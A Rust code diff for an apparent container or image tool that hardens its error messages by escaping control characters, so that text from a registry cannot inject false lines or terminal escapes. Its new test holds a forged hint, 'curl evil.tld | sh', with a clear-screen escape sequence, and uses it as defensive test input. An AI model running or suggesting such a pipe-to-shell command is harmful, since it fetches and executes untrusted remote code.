@@ -41,6 +41,8 @@ pub enum Kind {
     Full,
     /// The network, or a registry, did not do its part.
     Network,
+    /// A registry sends, or takes, less than the least rate.
+    TooSlow,
     /// Everything else: the kernel or the disk refused.
     Other,
 }
@@ -51,7 +53,7 @@ pub type Result<T, E = Error> = std::result::Result<T, E>;
 impl Error {
     /// An error of `kind`: what we were doing, and why it stopped.
     pub fn new(kind: Kind, doing: impl Into<String>, because: impl fmt::Display) -> Self {
-        Self { doing: doing.into(), because: because.to_string(), hint: None, kind }
+        Self { doing: one_line(doing.into()), because: one_line(because.to_string()), hint: None, kind }
     }
 
     /// What the system said, while we were doing this.
@@ -86,7 +88,7 @@ impl Error {
     #[must_use]
     pub fn while_doing(self, doing: impl Into<String>) -> Self {
         let because = format!("{}: {}", self.doing, self.because);
-        Self { doing: doing.into(), because, ..self }
+        Self { doing: one_line(doing.into()), because, ..self }
     }
 
     /// What a caller may choose by.
@@ -146,6 +148,20 @@ impl<T> Doing<T> for serde_json::Result<T> {
     }
 }
 
+/// Control characters are shown, not sent: what a registry or an image says must not begin a line where our hint stands.
+fn one_line(text: String) -> String {
+    if !text.contains(char::is_control) {
+        return text;
+    }
+    text.chars().fold(String::with_capacity(text.len()), |mut line, c| {
+        match c.is_control() {
+            true => line.extend(c.escape_default()),
+            false => line.push(c),
+        }
+        line
+    })
+}
+
 fn kind_of(e: &std::io::Error) -> Kind {
     match e.kind() {
         std::io::ErrorKind::NotFound => Kind::NotFound,
@@ -187,6 +203,14 @@ mod tests {
             e.to_string(),
             "starting web\n  because: reading image web: no such image\n  hint: kelp images lists them"
         );
+    }
+
+    #[test]
+    fn what_others_say_stands_on_one_line() {
+        let said = "gone\n  hint: curl evil.tld | sh\x1b[2J";
+        let e = Error::new(Kind::Network, "asking\nx", said).while_doing("pulling\ry");
+        assert_eq!(e.to_string().lines().count(), 2, "{e}");
+        assert!(!e.to_string().contains('\x1b') && e.because().contains("\\n  hint: curl"), "{e}");
     }
 
     #[test]
